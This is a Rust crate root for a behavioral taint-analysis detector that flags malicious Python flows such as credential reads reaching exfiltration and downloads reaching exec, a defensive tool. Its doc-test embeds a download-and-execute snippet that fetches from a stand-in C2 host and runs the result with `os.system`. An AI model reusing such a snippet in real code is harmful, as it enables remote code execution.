//! `dataflow` — behavioral taint analysis over [`pysrc::Module`] trees.
//!
//! Every other detector in the pipeline keys on literal text, and the
//! robustness harness shows what that costs: renaming and call
//! indirection erode recall because the *names* change while the
//! *behavior* — read credentials → exfiltrate, download → exec,
//! decode → eval — does not. This crate recovers the behavior:
//!
//! * A declarative **catalog** ([`catalog`]) of taint sources
//!   (environment/credential/file reads, `socket.recv`,
//!   `urllib`/`requests` fetches, `input`) and sinks (`exec`/`eval`/
//!   `compile`, `subprocess`/`os.system`, socket send / HTTP post,
//!   file writes to startup paths).
//! * An **intra-procedural taint engine** ([`analyze`]) propagating
//!   value flow through `Assign` targets, call arguments, attribute
//!   chains, `BinOp` concatenation and `with`/`for` block headers,
//!   with alias resolution through `import ... as` bindings so
//!   `import os as o; o.system(cmd)` still reads as `os.system`.
//! * A **constant-string folder** evaluating constant concatenation,
//!   `%`-formatting, `base64.b64decode`, `bytes.fromhex` and `chr`
//!   chains. Recovered constants are reported as [`FoldedConst`]s so
//!   the scan layer can re-expose them to literal rules as synthetic
//!   decoded layers, and `getattr(__import__("m"), "f")` indirection
//!   folds back to the dotted callee path `m.f`.
//!
//! Each detected flow carries its full source→sink step chain with
//! source lines ([`FlowFinding::steps`]), so a verdict stays
//! explainable: *which* call tainted *which* variable, and where it
//! reached the sink.
//!
//! The analysis is deliberately intra-procedural and single-pass: it
//! never iterates to a fixpoint, so cost is linear in statement count
//! and results are deterministic — properties the per-digest artifact
//! cache in `scanhub` relies on. `docs/threat_model.md` records what
//! escapes this scope.
//!
//! # Across a splice
//!
//! [`analyze_spliced`] is the analysis of a module spliced from a
//! previous version whose summary is known, read through the splice's
//! [`pysrc::Edit`]: its windows, the top-level statements it removed and
//! inserted, and its line delta, all worked out once in `pysrc`. When
//! every statement the edit removed or inserted binds a `Str`/`Num`
//! literal to plain names (or is a literal), and the engine can read none
//! of those names outside the windows, it returns the donor's summary
//! with the lines behind the window moved ([`pysrc::Edit::moved_line`]);
//! otherwise it runs [`analyze`]. A restamped version constant is such an
//! edit. The engine reads a name — a slot's taints, constant or import
//! binding — at these sites only, and the check covers each:
//!
//! * a `Name` expression, evaluated or resolved as a callee, and an
//!   import's binding: spans of the source text, covered by a search of
//!   the text outside the window;
//! * the words the engine's `ident_word` reads off an `Expr::Other`
//!   rendering to carry its taints, which glue words across quoted runs
//!   (`a'x'b` reads `ab`), and the rendering itself drops the spaces
//!   between the tokens of a bracketed literal (`[a b]` renders `[ab]`);
//! * the head of the callee path `Expr::write_func_path` writes for an
//!   `Expr::Other` callee, which drops whitespace, resolved as an alias.
//!
//! The check also runs the readers that only write a slot — the leading
//! identifier of an `Other` assignment target, and of the text left of
//! the `=` of a `Stmt::Other` — since a degraded name is cheap to test.
//!
//! # Allocation
//!
//! A warm [`analyze`] allocates the [`TaintSummary`] it returns and
//! nothing else: as many allocations as cloning the summary takes, none
//! for a module without flows or folded constants. A carried summary
//! costs exactly its clone, since the check reads through the buffers
//! the thread keeps: a splice makes the same allocations either way. Everything the
//! analysis builds lives in scratch its thread keeps between calls (freed
//! instead once it grows past 4 MiB), holding ids and byte ranges: names
//! interned to dense slots that a `def` body restores on exit, constants
//! as spans of the module or of one text arena, a call's arguments on one
//! stack, taint chains as `(parent, line, note)` nodes. A note, a label
//! or a line becomes text only when its chain reaches a sink, and a
//! folded constant is copied out once it survives sorting and dedup.
//!
//! # Examples
//!
//! ```
//! let module = pysrc::parse_module(
//!     "import os, requests\ncmd = requests.get('https://c2/t').text\nos.system(cmd)\n",
//! );
//! let summary = dataflow::analyze(&module);
//! assert_eq!(summary.flows.len(), 1);
//! assert_eq!(summary.flows[0].source, "requests.get");
//! assert_eq!(summary.flows[0].sink, "os.system");
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod catalog;
mod engine;
mod fold;
mod splice;

pub use catalog::{SinkKind, SourceKind};
pub use engine::analyze;
pub use splice::analyze_spliced;

/// One step in a source→sink chain: a source read, an assignment that
/// carried the taint, or the sink call itself.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct FlowStep {
    /// 1-based source line.
    pub line: u32,
    /// Human-readable description (`cmd = requests.get(...)`).
    pub note: String,
}

/// A complete source→sink taint flow.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct FlowFinding {
    /// Behavior label, `flow:net-fetch->proc-exec`.
    pub label: String,
    /// Canonical source path (`requests.get`, after alias resolution).
    pub source: String,
    /// Canonical sink path (`os.system`).
    pub sink: String,
    /// The step chain from source to sink, in program order.
    pub steps: Vec<FlowStep>,
}

/// A constant string recovered by folding a non-literal expression
/// (concatenation, decode chain, `%`-format). Surface rules never saw
/// this text; re-scanning it closes the string-splitting gap.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct FoldedConst {
    /// 1-based source line of the folded expression.
    pub line: u32,
    /// The recovered constant.
    pub text: String,
}

/// The per-module analysis result: flows plus recovered constants,
/// both sorted and deduplicated.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct TaintSummary {
    /// Source→sink flows, sorted by (label, source, sink).
    pub flows: Vec<FlowFinding>,
    /// Folded constants, sorted by (line, text).
    pub folded: Vec<FoldedConst>,
}

impl TaintSummary {
    /// Heap bytes held by the summary (for cache accounting).
    pub fn stored_bytes(&self) -> usize {
        let flows: usize = self
            .flows
            .iter()
            .map(|f| {
                f.label.len()
                    + f.source.len()
                    + f.sink.len()
                    + f.steps
                        .iter()
                        .map(|s| s.note.len() + std::mem::size_of::<FlowStep>())
                        .sum::<usize>()
                    + std::mem::size_of::<FlowFinding>()
            })
            .sum();
        let folded: usize = self
            .folded
            .iter()
            .map(|c| c.text.len() + std::mem::size_of::<FoldedConst>())
            .sum();
        flows + folded
    }
}
